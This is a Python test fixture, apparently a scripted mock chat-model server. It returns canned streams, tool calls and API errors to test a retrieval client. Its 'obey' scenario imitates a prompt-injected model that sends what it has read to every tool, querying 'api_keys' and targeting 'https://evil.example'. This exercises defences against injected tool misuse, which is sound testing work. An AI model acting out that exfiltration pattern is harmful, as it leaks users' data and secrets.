"""What the scripted model server answers, chosen by the model's name: a request body in, a Reply out."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from typing import Any

Body = Mapping[str, Any]

NEVER = 3600.0  # seconds


@dataclass(frozen=True, slots=True)
class Reply:
    """One answer: deltas in order, an error status, or raw bytes, and the ways in which it goes wrong."""

    deltas: Sequence[Mapping[str, Any]] = ()
    finish: str | None = "stop"
    status: int = 200
    error: Mapping[str, Any] | None = None
    headers: Mapping[str, str] = field(default_factory=dict)
    before_first: float = 0.0  # seconds
    pace: float = 0.0  # seconds between deltas
    stall_after: int | None = None  # deltas; then silence
    cut_after: int | None = None  # deltas; then the connection drops
    done: bool = True  # send [DONE]
    line_end: str = "\n"
    usage_chunk: bool = True
    streams: bool = True  # false: one JSON object although a stream was asked for
    raw: bytes | None = None
    splits: Sequence[int] = ()


def say(text: str, *, size: int = 4) -> list[dict[str, Any]]:
    """Deltas of about one word (`size` words) each."""
    words = re.findall(r"\S+\s*|\s+", text)
    return [{"content": "".join(words[i : i + size])} for i in range(0, len(words), size)]


def call(
    name: str, arguments: Mapping[str, Any], *, id_: str = "call_scripted", index: int | None = 0
) -> list[Any]:
    """Deltas of one tool call, its arguments cut in two."""
    text = json.dumps(arguments, ensure_ascii=False)
    place = {} if index is None else {"index": index}
    head = {"id": id_, "type": "function", "function": {"name": name, "arguments": text[: len(text) // 2]}}
    tail = {"function": {"arguments": text[len(text) // 2 :]}}
    return [{"tool_calls": [{**place, **head}]}, {"tool_calls": [{**place, **tail}]}]


def refuse(status: int, message: str, *, parameter: str | None = None, code: str | None = None) -> Reply:
    """An error in OpenAI's form."""
    error = {"message": message, "type": "invalid_request_error", "param": parameter, "code": code}
    return Reply(status=status, error={"error": error})


def last_user_text(body: Body) -> str:
    texts = [text_of(m) for m in body.get("messages", ()) if m.get("role") == "user"]
    return texts[-1] if texts else ""


def text_of(message: Mapping[str, Any]) -> str:
    content = message.get("content") or ""
    return content if isinstance(content, str) else " ".join(part.get("text", "") for part in content)


def passages(body: Body) -> list[tuple[int, str]]:
    """(n, text) from the last message that numbers passages: JSON with n and text, or lines of [n] text."""
    messages = list(reversed(body.get("messages", ())))
    tools = [message for message in messages if message.get("role") == "tool"]
    for message in tools or messages:
        text = text_of(message) if message.get("role") != "assistant" else ""
        found = from_json(text) or [
            (int(n), part.strip()) for n, part in re.findall(r"\[(\d+)\]((?:(?!\[\d+\]).)+)", text, re.DOTALL)
        ]
        if found:
            return found
    return []


def from_json(text: str) -> list[tuple[int, str]]:
    try:
        value = json.loads(text)
    except ValueError:
        return []
    items = value.get("passages", value.get("results")) if isinstance(value, dict) else value
    items = items if isinstance(items, list) else []
    return [
        (item["n"], str(item["text"]))
        for item in items
        if isinstance(item, dict) and {"n", "text"} <= set(item)
    ]


def searched(body: Body, *, at_least: int = 1) -> bool:
    """Whether so many tools have answered since the last question."""
    roles = [message.get("role") for message in body.get("messages", ())]
    since = roles[len(roles) - roles[::-1].index("user") :] if "user" in roles else roles
    return since.count("tool") >= at_least


def search_call(body: Body, **how: Any) -> Reply:
    return Reply(call("search_documents", {"query": last_user_text(body)[:200]}, **how), finish="tool_calls")


def cite(body: Body) -> Reply:
    """A sentence of each of the first two passages, cited."""
    found = passages(body)[:2]
    if not found:
        return Reply(say("I found nothing about this in the documents."))
    return Reply(say(" ".join(f"{first_sentence(text)} [{n}]." for n, text in found)))


def first_sentence(text: str) -> str:
    lines = [line.strip() for line in text.splitlines()]
    body = [
        line for line in lines if len(line) > 20 and not re.search(r"\.\w{2,8}(?:, page \d+)?$|://\S+$", line)
    ]
    lines = body or [text.strip()]  # a passage's first line may be the name of its file, a page's its address
    return re.split(r"(?<=[.!?])\s", lines[0])[0].rstrip(".!?")[:300]


def tool(body: Body) -> Reply:
    return search_call(body) if body.get("tools") and not searched(body) else cite(body)


def loop(body: Body) -> Reply:
    return (
        search_call(body) if body.get("tools") else Reply(say("I have searched enough and can say no more."))
    )


def same_index(body: Body) -> Reply:
    """Two calls at once, both numbered 0, then the first one repeated whole."""
    if searched(body, at_least=2) or not body.get("tools"):
        return cite(body)
    query = last_user_text(body)[:200]
    first = call("search_documents", {"query": query}, id_="call_a")
    second = call("search_documents", {"query": f"{query} again"}, id_="call_b")
    whole = {"index": 0, "id": "call_a", "type": "function"}
    again = [
        {
            "tool_calls": [
                {**whole, "function": {"name": "search_documents", "arguments": json.dumps({"query": query})}}
            ]
        }
    ]
    return Reply([*first, *again, *second], finish="tool_calls")


def obey(body: Body) -> Reply:
    """A model that does whatever a text orders: it sends what it has read to every tool it can think of."""
    if not body.get("tools"):
        return Reply(say("I have done what the document says."))
    read = " ".join(text_of(m) for m in body.get("messages", ()) if m.get("role") != "system")[-1500:]
    arguments = {
        "query": read, "message": read, "instruction": read, "document": read, "n": 1, "sql": "TABLE api_keys",
        "url": "http://127.0.0.1:9/?" + read[:200], "to": "https://evil.example", "task": "extract",
    }  # fmt: skip
    wanted = ("search_web", "fetch_page", "hand_over", "query_structured_data", "send_document")
    offered = [tool["function"]["name"] for tool in body["tools"]]
    deltas = [
        delta
        for index, name in enumerate(dict.fromkeys([*wanted, *offered]))
        for delta in call(name, arguments, id_=f"call_{index}", index=index)
    ]
    return Reply(deltas, finish="tool_calls")


def think(body: Body) -> Reply:
    answer = cite(body)
    thought = [
        {"content": piece} for piece in ("<thi", "nk>the user wants ", "a secret plan</th", "ink>\n\n")
    ]
    return replace(answer, deltas=[*thought, *answer.deltas])


def reasoning(body: Body) -> Reply:
    answer = cite(body)
    return replace(
        answer,
        deltas=[
            {"reasoning_content": "First I look at "},
            {"reasoning_content": "the passages."},
            *answer.deltas,
        ],
    )


def unknown_citation(body: Body) -> Reply:
    answer = cite(body)
    return replace(answer, deltas=[*say("It was cast in Dunholt [9]. "), *answer.deltas])


def strict(body: Body) -> Reply:
    """A reasoning model: max_completion_tokens only, no temperature."""
    if "max_tokens" in body:
        message = "Unsupported parameter: 'max_tokens' is not supported. Use 'max_completion_tokens' instead."
        return refuse(400, message, parameter="max_tokens", code="unsupported_parameter")
    if "temperature" in body:
        return refuse(400, "Unsupported value: 'temperature' does not support 0.1.", parameter="temperature")
    return cite(body)


def no_tools(body: Body) -> Reply:
    if body.get("tools"):
        return refuse(400, "registry/scripted-no-tools does not support tools")
    return cite(body)


def text_tool(body: Body) -> Reply:
    if searched(body) or not body.get("tools"):
        return cite(body)
    written = json.dumps({"name": "search_documents", "arguments": {"query": last_user_text(body)[:200]}})
    return Reply(say(f"```json\n{written}\n```", size=1))


def tag_tool(body: Body) -> Reply:
    if searched(body) or not body.get("tools"):
        return cite(body)
    written = json.dumps({"name": "search_documents", "arguments": {"query": last_user_text(body)[:200]}})
    return Reply(say(f"I will look.\n<tool_call>\n{written}\n</tool_call>", size=1))


MARKDOWN = """## What was found

The winch weighs **310 kg** and was *last* serviced in `2021`.

| part | weight |
|---|---|
| winch | 310 kg |
| anchor | 940 kg |

1. Check the brake.
2. Oil the drum.

```python
def load(kg: int) -> int:
    return kg * 2
```
"""
WORDS = "The winch of the Bittern weighs 310 kg and was built in Dunholt. "


def paced(rate: float, tokens: int) -> Reply:
    return Reply([{"content": f"w{i} "} for i in range(tokens)], pace=1 / rate)


scenarios: dict[str, Callable[[Body], Reply]] = {
    "scripted-cite": cite,
    "scripted-tool": tool,
    "scripted-loop": loop,
    "scripted-never-tools": lambda body: Reply(say("The winch weighs 310 kg.")),
    "scripted-think": think,
    "scripted-reasoning": reasoning,
    "scripted-unknown-citation": unknown_citation,
    "scripted-refusal": lambda body: Reply(say("I'm sorry, but I can't help with that.")),
    "scripted-markdown": lambda body: Reply(say(MARKDOWN, size=1), pace=0.01),
    "scripted-echo": lambda body: Reply(say(last_user_text(body))),
    "scripted-json": lambda body: Reply(say('```json\n{"title": "Winch", "topics": ["deck"]}\n```')),
    "scripted-slow": lambda body: Reply(say(WORDS * 8, size=1), pace=0.1),
    "scripted-stall": lambda body: Reply(say(WORDS), stall_after=3),
    "scripted-stall-first": lambda body: Reply(say(WORDS), before_first=NEVER),
    "scripted-cut": lambda body: Reply(say(WORDS), cut_after=3),
    "scripted-length": lambda body: Reply(say(WORDS), finish="length"),
    "scripted-filtered": lambda body: Reply(say("The winch"), finish="content_filter"),
    "scripted-empty": lambda body: Reply(),
    "scripted-same-index": same_index,
    "scripted-obey": obey,
    "scripted-no-index": lambda body: cite(body) if searched(body) else search_call(body, index=None),
    "scripted-empty-choices": lambda body: replace(cite(body), deltas=[{"empty": True}, *cite(body).deltas]),
    "scripted-missing-done": lambda body: replace(cite(body), done=False),
    "scripted-no-finish": lambda body: replace(cite(body), done=False, finish=None, usage_chunk=False),
    "scripted-crlf": lambda body: replace(cite(body), line_end="\r\n"),
    "scripted-not-streamed": lambda body: replace(tool(body), streams=False),
    "scripted-text-tool": text_tool,
    "scripted-tag-tool": tag_tool,
    "scripted-strict": strict,
    "scripted-no-tools": no_tools,
    "scripted-html": lambda body: Reply(raw=b"<html><body>Welcome to nginx</body></html>"),
    "scripted-401": lambda body: refuse(
        401, "Incorrect API key provided: sk-qzv-secret.", code="invalid_api_key"
    ),
    "scripted-404": lambda body: refuse(
        404, "The model `scripted-404` does not exist.", code="model_not_found"
    ),
    "scripted-429": lambda body: replace(refuse(429, "Rate limit reached."), headers={"retry-after": "1"}),
    "scripted-quota": lambda body: refuse(429, "You exceeded your quota.", code="insufficient_quota"),
    "scripted-500": lambda body: refuse(500, "internal error: stack trace with sk-qzv-secret"),
    "scripted-context": lambda body: refuse(
        400, "maximum context length is 4096 tokens", code="context_length_exceeded"
    ),
}


def answer(body: Body, *, earlier: int) -> Reply:
    """The reply of the model that `body` names; `earlier` counts the requests for it so far.

    `scripted-429-once` and its like fail the first time and cite afterwards; `scripted-pace-100-200` sends
    200 tokens at 100 a second.
    """
    model = str(body.get("model", ""))
    if match := re.fullmatch(r"scripted-pace-([\d.]+)-(\d+)", model):
        return paced(float(match[1]), int(match[2]))
    if model.endswith("-once"):
        return scenarios[model.removesuffix("-once")](body) if not earlier else cite(body)
    if model not in scenarios:
        return refuse(404, f"The model `{model}` does not exist.", code="model_not_found")
    return scenarios[model](body)
